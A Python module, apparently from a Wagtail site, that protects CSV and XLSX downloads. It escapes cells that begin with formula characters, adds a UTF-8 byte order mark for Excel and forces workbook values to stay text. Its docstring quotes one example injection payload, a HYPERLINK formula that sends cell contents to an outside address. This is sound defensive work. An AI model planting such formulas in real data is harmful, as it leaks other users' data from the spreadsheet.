"""Downloads that open in a spreadsheet (the reports' CSV, the survey's answers): what people
typed must stay text there.

A cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) is
a formula to Excel, LibreOffice and Google Sheets: a member who signs up as
``=HYPERLINK("https://…?"&A1, "Open")`` would have the trainer's copy send other cells to
that address. An apostrophe in front makes the spreadsheet show the text as it was typed.
XLSX downloads are safe already: Wagtail writes every cell as a string, never a formula.

A CSV starts with a byte order mark: Excel, which members' offices open CSV files with, reads
a file without one in the computer's own code page (GBK on a Chinese Windows), and 李明 and
the courses' Chinese titles would come out garbled. Other spreadsheets ignore the mark.
"""

import datetime

from .text_width import columns

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# What every CSV download starts with: UTF-8's byte order mark.
CSV_START = "\ufeff"


def as_text_cell(value):
    """``value`` for a CSV cell: text that would start a formula gets a leading apostrophe;
    numbers, dates and other text are left alone."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


class ExcelReadableCsv:
    """For views with Wagtail's spreadsheet downloads: the CSV starts with a UTF-8 byte order
    mark, so Excel reads its Chinese text as such."""

    def stream_csv(self, queryset):
        yield CSV_START
        yield from super().stream_csv(queryset)


# Dates as the CSV downloads write them, whatever the admin's language (Wagtail's XLSX used
# the English locale's month/day/year with AM/PM).
XLSX_DATETIME = "yyyy-mm-dd hh:mm:ss"
XLSX_DATE = "yyyy-mm-dd"
SHEET_TITLE_FORBIDDEN = str.maketrans(dict.fromkeys("[]:*?/\\", " "))


def write_xlsx(output, title: str, headings: list[str], rows) -> None:
    """A workbook of one sheet named ``title``: the headings in bold, kept in view while
    scrolling, columns as wide as their heading, and dates that read the same in every
    language. Every value is written as it is, never as a formula. Streams ``rows``."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    workbook = Workbook(write_only=True)
    # Excel refuses sheet names over 31 characters or with any of []:*?/\
    sheet = workbook.create_sheet(title=title.translate(SHEET_TITLE_FORBIDDEN)[:31] or "Sheet1")
    for number, heading in enumerate(headings, start=1):
        width = min(40, max(10, columns(heading) + 2))
        sheet.column_dimensions[get_column_letter(number)].width = width
    sheet.freeze_panes = "A2"
    bold = Font(bold=True)
    header = []
    for heading in headings:
        cell = WriteOnlyCell(sheet, heading)
        cell.font = bold
        header.append(cell)
    sheet.append(header)
    for row in rows:
        cells = []
        for value in row:
            cell = WriteOnlyCell(sheet, value)
            if cell.data_type == "f":  # text starting with "=" stays text
                cell.data_type = "s"
            if isinstance(value, datetime.datetime):
                cell.number_format = XLSX_DATETIME
            elif isinstance(value, datetime.date):
                cell.number_format = XLSX_DATE
            cells.append(cell)
        sheet.append(cells)
    workbook.save(output)
